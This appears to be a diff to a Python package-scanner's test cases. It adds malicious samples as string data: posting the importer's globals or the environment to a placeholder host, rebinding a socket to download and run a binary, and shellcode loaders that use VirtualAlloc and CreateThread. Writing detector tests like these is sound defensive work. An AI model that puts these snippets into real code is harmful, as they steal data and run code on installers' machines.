@@ -74,4 +74,39 @@ CASES = [
            "    urllib.request.urlopen('https://x.invalid/t', data=repr(dict(os.environ))"
            ".encode())\n\nthreading.Thread(target=steal, daemon=True).start()\n",
            ("PV303",)),
+    # The hidden-name fold grades a frame read (`sys._getframe`) by what it is; taken with a
+    # send at import it is still the caller's code going out.
+    _wheel("getattr(sys, 'emarfteg_'[::-1]) reading the importer's globals, posted",
+           "names-frame-post",
+           "import json, sys, urllib.request\n\n\ndef _grab():\n"
+           "    g = getattr(sys, 'emarfteg_'[::-1])(1).f_globals\n"
+           "    urllib.request.urlopen('https://x.invalid/f', data=json.dumps(sorted(g))"
+           ".encode())\n\n\n_grab()\n", ("PV323",)),
+    # A Unix-domain socket is local IPC, unless the code rebinds AF_UNIX to the internet.
+    _wheel("socket.AF_UNIX rebound to AF_INET, then download, save, chmod, run",
+           "names-af-unix-rebound",
+           "import os, socket, subprocess\n\nsocket.AF_UNIX = socket.AF_INET\n"
+           "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
+           "s.connect(('127.0.0.1', 9))\ndata = s.recv(65536)\n"
+           "p = os.path.expanduser('~/.cache/helper')\n"
+           "with open(p, 'wb') as fh:\n    fh.write(data)\n"
+           "os.chmod(p, 0o755)\nsubprocess.Popen([p])\n", ("PV301",)),
+    # Machine code from plain literals at run time is a CPU probe; decoded from a blob it is
+    # a loader waiting for its call, and at import it runs unasked.
+    Case("shellcode decoded from base64 into VirtualAlloc'd memory, in a function",
+         "names-shellcode-runtime", {
+             "names_shellcode_runtime/__init__.py": "",
+             "names_shellcode_runtime/run.py": (
+                 "import base64, ctypes\n\n\ndef go():\n"
+                 "    code = base64.b64decode('kJCQw5CQkMOQkJDD')\n"
+                 "    k = ctypes.windll.kernel32\n"
+                 "    addr = k.VirtualAlloc(None, len(code), 0x3000, 0x40)\n"
+                 "    k.RtlMoveMemory(addr, code, len(code))\n"
+                 "    k.CreateThread(None, 0, addr, None, 0, None)\n"),
+         }, "suspicious", ("PV308",), kind="wheel"),
+    _wheel("literal machine code run through VirtualAlloc at import", "names-shellcode-import",
+           "import ctypes\n\ncode = b'\\x90\\x90\\xc3'\nk = ctypes.windll.kernel32\n"
+           "addr = k.VirtualAlloc(None, len(code), 0x3000, 0x40)\n"
+           "k.RtlMoveMemory(addr, code, len(code))\n"
+           "k.CreateThread(None, 0, addr, None, 0, None)\n", ("PV308",)),
 ]
